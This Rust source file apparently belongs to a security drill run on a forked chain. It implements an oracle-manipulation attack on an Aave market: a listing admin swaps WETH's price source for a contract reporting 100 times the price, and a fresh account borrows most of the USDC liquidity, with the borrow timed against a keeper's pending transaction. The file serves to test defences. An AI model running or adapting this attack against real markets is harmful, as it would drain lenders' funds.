//! The oracle attack on Aave: the holder of ASSET_LISTING_ADMIN makes WETH's source answer 100 times the price, and a fresh
//! account borrows USDC against it.

use std::{
    collections::BTreeMap,
    time::{Duration, Instant},
};

use alloy::{
    primitives::{Address, I256, U256},
    providers::Provider,
    sol_types::SolConstructor,
};

use super::{Arrival, Attack, Landed};
use crate::{
    abi::{IAaveOracle, IMintable, IPriceFeed, IScaledFeed},
    artifact::Artifact,
    cast,
    error::DrillError,
    fork::Fork,
    live::{AaveMarket, FRESH_WETH, borrow_call, supply_call},
    loss::BPS,
    tools::Tools,
};

/// What the thief's source answers, as a multiple of the price.
const FACTOR: u64 = 100;
/// Loan to value of the market, in bps, less a little for rounding.
const LTV_BPS: u64 = 7_990;
/// Part of the market's liquidity that the thief goes for, in bps.
const GREED_BPS: u64 = 9_500;
/// How long the attacker waits for the keeper's transaction when the keeper is to arrive first.
const COURTESY: Duration = Duration::from_millis(235);
/// How often the attacker looks into the pool.
const PEEK: Duration = Duration::from_millis(3);

const CHANGE: &str = "the change of the oracle source";

/// All that the thief prepares: the false source, and collateral in the fresh account. Nothing of it harms anyone yet.
pub(crate) struct Prepared {
    source: Address,
    loan: U256,
}

/// Deploys the false source and supplies the fresh account's collateral.
pub(crate) async fn prepare(fork: &Fork, tools: &Tools, market: &AaveMarket) -> Result<Prepared, DrillError> {
    let thief = fork.account(cast::THIEF)?;
    let fresh = fork.account(cast::FRESH)?;
    let code = Artifact::forge(&tools.solidity_artifacts()?, "ScaledFeed")?;
    let factor = I256::try_from(FACTOR).map_err(|_| DrillError::OutOfRange {
        what: "the false price".to_owned(),
    })?;
    let arguments = IScaledFeed::constructorCall {
        source: market.weth.feed,
        factor,
    };
    let collateral = market.weth.units(FRESH_WETH);
    let approve = IMintable::approveCall {
        spender: market.pool,
        amount: U256::MAX,
    };
    let supply = supply_call(&market.weth, collateral, fresh.address());
    let code = code.creation(&BTreeMap::new(), &arguments.abi_encode())?;
    let sent = [
        fork.chain.send_creation(thief, code).await?,
        fork.chain.send(fresh, market.weth.token, &approve).await?,
        fork.chain.send(fresh, market.pool, &supply).await?,
    ];
    fork.next_block().await?;
    let mut source = None;
    for hash in sent {
        source = source.or(fork
            .chain
            .succeeded(hash, "the thief's preparation")
            .await?
            .contract_address);
    }
    let source = source.ok_or_else(|| DrillError::OutOfRange {
        what: "the false source's address".to_owned(),
    })?;
    Ok(Prepared {
        source,
        loan: loan(fork, market, collateral).await?,
    })
}

/// As much USDC as the false price allows and the market has.
async fn loan(fork: &Fork, market: &AaveMarket, collateral: U256) -> Result<U256, DrillError> {
    let price = fork
        .chain
        .read(
            market.oracle,
            &IAaveOracle::getAssetPriceCall {
                asset: market.weth.token,
            },
        )
        .await?;
    let dollar = fork
        .chain
        .read(market.usdc.feed, &IPriceFeed::latestAnswerCall {})
        .await?
        .unsigned_abs();
    let account = market.usdc.supply_token;
    let cash = fork
        .chain
        .read(market.usdc.token, &IMintable::balanceOfCall { account })
        .await?;
    let out_of_range = || DrillError::OutOfRange {
        what: "the attack's loan".to_owned(),
    };
    let value = collateral
        .checked_mul(price)
        .and_then(|value| value.checked_mul(U256::from(FACTOR)))
        .ok_or_else(out_of_range)?;
    let power = value.checked_mul(U256::from(LTV_BPS)).ok_or_else(out_of_range)? / U256::from(BPS);
    let scaled = power.checked_mul(market.usdc.units(1)).ok_or_else(out_of_range)?;
    let borrowable = scaled.checked_div(dollar).ok_or_else(out_of_range)? / market.weth.units(1);
    let liquid = cash.checked_mul(U256::from(GREED_BPS)).ok_or_else(out_of_range)? / U256::from(BPS);
    Ok(borrowable.min(liquid))
}

/// Changes the source, and takes the loan `delay` blocks later.
pub(crate) async fn strike(
    fork: &Fork,
    market: &AaveMarket,
    prepared: &Prepared,
    delay: u64,
    arrival: Arrival,
    guard: Option<Address>,
) -> Result<Attack, DrillError> {
    let thief = fork.account(cast::THIEF)?;
    let fresh = fork.account(cast::FRESH)?;
    let change = IAaveOracle::setAssetSourcesCall {
        assets: vec![market.weth.token],
        sources: vec![prepared.source],
    };
    let borrow = borrow_call(&market.usdc, prepared.loan, fresh.address());
    // A fresh block leaves the time of a whole one for both transactions.
    fork.next_block().await?;
    let changing = fork.chain.send(thief, market.oracle, &change).await?;
    let taking = if delay == 0 {
        fork.chain.send(fresh, market.pool, &borrow).await?
    } else {
        let first_bad = Landed::try_from(&fork.mined(changing, CHANGE).await?)?.block;
        fork.until(first_bad + delay - 1).await?;
        if let (Arrival::Keeper, Some(guard)) = (arrival, guard) {
            await_pending(fork, guard).await?;
        }
        fork.chain.send(fresh, market.pool, &borrow).await?
    };
    let taking = fork.mined(taking, "the attacker's loan").await?;
    let change = fork.chain.succeeded(changing, CHANGE).await?;
    Ok(Attack {
        change: Landed::try_from(&change)?,
        taking: Landed::try_from(&taking)?,
    })
}

/// Waits until a transaction to `guard` is in the pool, or the block is nearly over.
async fn await_pending(fork: &Fork, guard: Address) -> Result<(), DrillError> {
    let start = Instant::now();
    while start.elapsed() < COURTESY {
        let pool: serde_json::Value = fork
            .chain
            .provider()
            .raw_request("txpool_content".into(), ())
            .await
            .map_err(DrillError::rpc("reading the pool"))?;
        if calls(&pool, guard) {
            return Ok(());
        }
        tokio::time::sleep(PEEK).await;
    }
    Ok(())
}

/// Whether a pending transaction in the pool's content calls `target`.
fn calls(pool: &serde_json::Value, target: Address) -> bool {
    let senders = pool.get("pending").and_then(serde_json::Value::as_object);
    let transactions = senders
        .into_iter()
        .flat_map(|senders| senders.values())
        .filter_map(serde_json::Value::as_object);
    transactions.flat_map(|by_nonce| by_nonce.values()).any(|transaction| {
        let to = transaction.get("to").and_then(serde_json::Value::as_str);
        to.and_then(|to| to.parse::<Address>().ok()) == Some(target)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pending_call_is_recognised() {
        let guard = Address::repeat_byte(0xab);
        let pool = serde_json::json!({"pending": {"0x01": {"7": {"to": format!("{guard:#x}")}}}, "queued": {}});
        assert!(calls(&pool, guard));
        assert!(!calls(&pool, Address::repeat_byte(1)));
        let queued = serde_json::json!({"pending": {}, "queued": {"0x01": {"7": {"to": format!("{guard:#x}")}}}});
        assert!(!calls(&queued, guard));
    }
}
